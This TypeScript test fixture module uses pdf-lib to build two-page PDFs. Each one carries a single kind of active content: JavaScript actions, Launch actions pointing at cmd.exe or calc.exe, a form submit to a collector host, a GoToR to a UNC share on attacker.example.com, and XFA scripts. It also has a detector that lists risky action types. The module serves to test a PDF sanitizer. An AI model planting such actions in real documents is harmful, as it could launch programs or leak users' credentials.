import {
  decodePDFRawStream,
  PDFArray,
  PDFBool,
  type PDFContext,
  PDFDict,
  PDFDocument,
  PDFName,
  type PDFObject,
  PDFRawStream,
  type PDFRef,
  PDFStream,
  PDFString,
  StandardFonts,
} from "pdf-lib";

// PDFs carrying one kind of active content each (issue 10 §3), built with pdf-lib's low-level API,
// for the unit tests of removeActiveContent and the API tests of every intake. Each is two pages
// of real text, so a test can tell that the pages survived.

const name = PDFName.of;
const text = PDFString.of;

export interface ActiveContentSample {
  label: string;
  /** what intake must report as removed, in ACTIVE_CONTENT_KINDS order */
  removed: string[];
  build(document: PDFDocument): void;
  /** the object that must be gone after intake (present in the built file) */
  located(document: PDFDocument): PDFObject | undefined;
}

const js = (context: PDFContext, code: string) => context.obj({ Type: "Action", S: "JavaScript", JS: text(code) });

function firstPage(document: PDFDocument) {
  return document.getPage(0).node;
}

function lastPage(document: PDFDocument) {
  return document.getPage(document.getPageCount() - 1).node;
}

/** A link annotation on page 1 running `action` (a dict or a reference) when clicked. */
function addLink(document: PDFDocument, action: PDFObject): PDFRef {
  const { context } = document;
  const link = context.register(
    context.obj({ Type: "Annot", Subtype: "Link", Rect: [72, 600, 300, 620], Border: [0, 0, 0] }),
  );
  (context.lookup(link) as PDFDict).set(name("A"), action);
  firstPage(document).addAnnot(link);
  return link;
}

/** The first annotation of page 1. */
function firstAnnotation(document: PDFDocument): PDFDict | undefined {
  const annots = firstPage(document).Annots();
  const first = annots?.lookup(0);
  return first instanceof PDFDict ? first : undefined;
}

const linkAction = (document: PDFDocument) => firstAnnotation(document)?.lookup(name("A"));

/** A link whose action is of the given type (the details a viewer needs to run it). */
function actionLink(type: string, details: Record<string, unknown>): ActiveContentSample {
  return {
    label: `a link running a ${type} action`,
    removed: [type],
    build(document) {
      // biome-ignore lint/suspicious/noExplicitAny: pdf-lib's literal type is not exported
      addLink(document, document.context.obj({ Type: "Action", S: type, ...details } as any));
    },
    located: linkAction,
  };
}

/** A text field whose parent field (with kids) holds `fieldExtras`, its widget `widgetExtras`. */
function addTextField(
  document: PDFDocument,
  fieldExtras: Record<string, PDFObject>,
  widgetExtras: Record<string, PDFObject>,
) {
  const { context } = document;
  const field = context.obj({ FT: "Tx", T: text("amount") });
  for (const [key, value] of Object.entries(fieldExtras)) field.set(name(key), value);
  const fieldRef = context.register(field);
  const widget = context.obj({ Type: "Annot", Subtype: "Widget", Rect: [72, 500, 300, 520], Parent: fieldRef });
  for (const [key, value] of Object.entries(widgetExtras)) widget.set(name(key), value);
  const widgetRef = context.register(widget);
  field.set(name("Kids"), context.obj([widgetRef]));
  firstPage(document).addAnnot(widgetRef);
  document.catalog.set(name("AcroForm"), context.obj({ Fields: [fieldRef] }));
  return { fieldRef, widgetRef };
}

const acroFormField = (document: PDFDocument) => {
  const fields = document.catalog.lookupMaybe(name("AcroForm"), PDFDict)?.lookup(name("Fields"));
  const field = fields instanceof PDFArray ? fields.lookup(0) : undefined;
  return field instanceof PDFDict ? field : undefined;
};

export const ACTIVE_CONTENT_SAMPLES: ActiveContentSample[] = [
  {
    label: "a JavaScript OpenAction",
    removed: ["OpenAction"],
    build: (document) => document.catalog.set(name("OpenAction"), js(document.context, "app.alert('opened')")),
    located: (document) => document.catalog.get(name("OpenAction")),
  },
  {
    label: "a Launch OpenAction (indirect)",
    removed: ["OpenAction"],
    build: (document) =>
      document.catalog.set(
        name("OpenAction"),
        document.context.register(document.context.obj({ S: "Launch", F: text("cmd.exe") })),
      ),
    located: (document) => document.catalog.get(name("OpenAction")),
  },
  {
    label: "additional actions on the catalog",
    removed: ["AA"],
    build: (document) => document.catalog.set(name("AA"), document.context.obj({ WC: js(document.context, "1") })),
    located: (document) => document.catalog.get(name("AA")),
  },
  {
    label: "additional actions on the last page",
    removed: ["AA"],
    build: (document) =>
      lastPage(document).set(name("AA"), document.context.obj({ O: js(document.context, "this.print()") })),
    located: (document) => lastPage(document).get(name("AA")),
  },
  {
    label: "additional actions on an annotation",
    removed: ["AA"],
    build(document) {
      const link = addLink(document, document.context.obj({ S: "URI", URI: text("https://example.com/") }));
      (document.context.lookup(link) as PDFDict).set(
        name("AA"),
        document.context.obj({ E: js(document.context, "app.alert('hover')") }),
      );
    },
    located: (document) => firstAnnotation(document)?.get(name("AA")),
  },
  {
    label: "a document-level JavaScript name tree",
    removed: ["JavaScript"],
    build(document) {
      const { context } = document;
      const tree = context.register(context.obj({ Names: [text("init"), js(context, "app.alert('init')")] }));
      document.catalog.set(name("Names"), context.obj({ JavaScript: tree }));
    },
    located: (document) => document.catalog.lookupMaybe(name("Names"), PDFDict)?.get(name("JavaScript")),
  },
  {
    label: "a link running JavaScript",
    removed: ["JavaScript"],
    build: (document) => addLink(document, document.context.register(js(document.context, "app.launchURL('x')"))),
    located: linkAction,
  },
  actionLink("Launch", { F: text("calc.exe"), NewWindow: true }),
  actionLink("SubmitForm", { F: { FS: "URL", F: text("https://collector.example.com/") } }),
  actionLink("ImportData", { F: text("values.fdf") }),
  actionLink("GoToE", { NewWindow: true, T: { R: "C", N: text("attached.pdf") } }),
  actionLink("GoToR", { F: text("\\\\attacker.example.com\\share\\x.pdf"), D: [0, "Fit"] }),
  actionLink("Rendition", { OP: 0 }),
  actionLink("RichMediaExecute", { TI: text("instance") }),
  actionLink("Movie", { T: text("clip") }),
  actionLink("Sound", {}),
  {
    label: "a link to a local file (URI file:)",
    removed: ["URI"],
    build: (document) =>
      addLink(document, document.context.obj({ S: "URI", URI: text("file:///C:/Windows/System32/calc.exe") })),
    located: linkAction,
  },
  {
    label: "a harmless link whose /Next runs JavaScript",
    removed: ["JavaScript"],
    build(document) {
      const { context } = document;
      addLink(
        document,
        context.obj({ S: "URI", URI: text("https://example.com/"), Next: [js(context, "app.alert('next')")] }),
      );
    },
    located: (document) => (linkAction(document) as PDFDict | undefined)?.get(name("Next")),
  },
  {
    label: "a form field (with kids) whose additional actions format and validate with JavaScript",
    removed: ["AA"],
    build(document) {
      const { context } = document;
      addTextField(document, { AA: context.obj({ K: js(context, "AFNumber_Keystroke()"), V: js(context, "1") }) }, {});
    },
    located: (document) => acroFormField(document)?.get(name("AA")),
  },
  {
    label: "a form widget that submits the form",
    removed: ["SubmitForm"],
    build(document) {
      const { context } = document;
      addTextField(document, {}, { A: context.obj({ S: "SubmitForm", F: text("https://collector.example.com/") }) });
    },
    located: (document) => firstAnnotation(document)?.get(name("A")),
  },
  {
    label: "an outline item running JavaScript",
    removed: ["JavaScript"],
    build(document) {
      const { context } = document;
      const outlines = context.register(context.obj({ Type: "Outlines", Count: 1 }));
      const item = context.register(
        context.obj({ Title: text("Start"), Parent: outlines, A: js(context, "app.alert('outline')") }),
      );
      const root = context.lookup(outlines) as PDFDict;
      root.set(name("First"), item);
      root.set(name("Last"), item);
      document.catalog.set(name("Outlines"), outlines);
    },
    located(document) {
      const item = document.catalog.lookupMaybe(name("Outlines"), PDFDict)?.lookup(name("First"));
      return item instanceof PDFDict ? item.get(name("A")) : undefined;
    },
  },
  {
    label: "an XFA form packet with a script",
    removed: ["XFA"],
    build(document) {
      const { context } = document;
      addTextField(document, {}, {});
      const xfa = context.register(
        context.stream(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert("xfa")</script></event></subform></template></xdp:xdp>',
        ),
      );
      document.catalog.lookup(name("AcroForm"), PDFDict).set(name("XFA"), xfa);
    },
    located: (document) => document.catalog.lookupMaybe(name("AcroForm"), PDFDict)?.get(name("XFA")),
  },
];

/** Harmless navigation that intake keeps as it is (the file is not rewritten). */
export const HARMLESS_SAMPLES: Omit<ActiveContentSample, "removed">[] = [
  {
    label: "an OpenAction that is a plain destination",
    build: (document) =>
      document.catalog.set(name("OpenAction"), document.context.obj([document.getPage(1).ref, name("Fit")])),
    located: (document) => document.catalog.get(name("OpenAction")),
  },
  {
    label: "a GoTo OpenAction",
    build: (document) =>
      document.catalog.set(
        name("OpenAction"),
        document.context.obj({ S: "GoTo", D: [document.getPage(1).ref, name("Fit")] }),
      ),
    located: (document) => document.catalog.get(name("OpenAction")),
  },
  {
    label: "a web link",
    build: (document) => addLink(document, document.context.obj({ S: "URI", URI: text("https://example.com/terms") })),
    located: linkAction,
  },
  {
    label: "a link to page 2",
    build: (document) =>
      addLink(document, document.context.obj({ S: "GoTo", D: [document.getPage(1).ref, name("Fit")] })),
    located: linkAction,
  },
];

/** A dynamic XFA form: its pages only say "please wait" until the form's scripts draw them. */
export function buildDynamicXfa(document: PDFDocument): void {
  ACTIVE_CONTENT_SAMPLES.find((sample) => sample.removed[0] === "XFA")!.build(document);
  document.catalog.set(name("NeedsRendering"), PDFBool.True);
}

/** Two pages of text, then the sample's content; saved without object streams, as older tools write. */
export async function activeContentPdf(build: (document: PDFDocument) => void): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (const number of [1, 2]) {
    const page = document.addPage([612, 792]);
    page.drawText(`Loan agreement, page ${number} of 2`, { x: 72, y: 700, size: 14, font });
  }
  build(document);
  return document.save({ useObjectStreams: false });
}

/** Each page's content streams, decoded and joined: what a viewer draws. */
export async function pageContents(bytes: Uint8Array): Promise<string[]> {
  const document = await PDFDocument.load(bytes, { updateMetadata: false });
  return document.getPages().map((page) => {
    const contents = page.node.Contents();
    const streams =
      contents instanceof PDFArray ? contents.asArray().map((item) => page.doc.context.lookup(item)) : [contents];
    return streams
      .map((stream) =>
        stream instanceof PDFRawStream ? Buffer.from(decodePDFRawStream(stream).decode()).toString("latin1") : "",
      )
      .join("\n");
  });
}

const RISKY_TYPES = new Set(
  [
    "JavaScript",
    "Launch",
    "SubmitForm",
    "ImportData",
    "GoToE",
    "GoToR",
    "Rendition",
    "RichMediaExecute",
    "Movie",
    "Sound",
  ].map((type) => name(type)),
);

/**
 * Every trace of active content in a file, whether reachable or not: a brute-force look at every
 * object, independent of how removeActiveContent walks the file (for tests to check its output).
 */
export async function activeContentTraces(bytes: Uint8Array): Promise<string[]> {
  const document = await PDFDocument.load(bytes, { updateMetadata: false, ignoreEncryption: true });
  const traces = new Set<string>();
  const visit = (object: PDFObject | undefined) => {
    if (object instanceof PDFStream) visit(object.dict);
    else if (object instanceof PDFArray) for (const item of object.asArray()) visit(item);
    else if (object instanceof PDFDict) {
      for (const [key, value] of object.entries()) {
        if (key === name("AA") || key === name("JS") || key === name("XFA")) traces.add(key.decodeText());
        if (key === name("JavaScript")) traces.add("JavaScript name tree");
        if (key === name("OpenAction") && document.context.lookup(value) instanceof PDFDict) traces.add("OpenAction");
        if (key === name("S") && value instanceof PDFName && RISKY_TYPES.has(value)) traces.add(value.decodeText());
        if (key === name("URI") && /^file:/i.test((value as PDFString).decodeText?.() ?? "")) traces.add("file URI");
        visit(value);
      }
    }
  };
  for (const [, object] of document.context.enumerateIndirectObjects()) visit(object);
  return [...traces].sort();
}
